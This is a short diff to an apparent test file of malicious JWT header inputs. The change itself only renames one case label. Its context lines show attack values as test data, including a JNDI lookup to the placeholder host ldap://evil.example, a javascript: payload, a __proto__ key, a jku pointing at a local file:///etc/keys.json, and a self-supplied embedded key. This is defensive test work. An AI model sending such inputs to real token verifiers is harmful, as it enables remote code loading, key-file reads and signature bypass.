@@ -85,7 +85,7 @@ export const furtherAttacks: [name: string, token: string][] = [
   ['expression in kid', kid('a${${lower:j}ndi:ldap://evil.example}')],
   ['markup in kid', kid('javascript:alert(1)')],
   ['name of a built-in in kid', kid('__proto__')],
-  ['characters that do not show in kid', kid('key\u200b1')],
+  ['invisible characters in kid', kid('key\u200b1')],
   ['absurd length in kid', kid('k'.repeat(5_000))],
   ['key from jku', head({ jku: 'file:///etc/keys.json' })],
   ['key in the token', make({ alg: 'ES256', jwk: JSON.stringify(jwk) }, claims, es)],
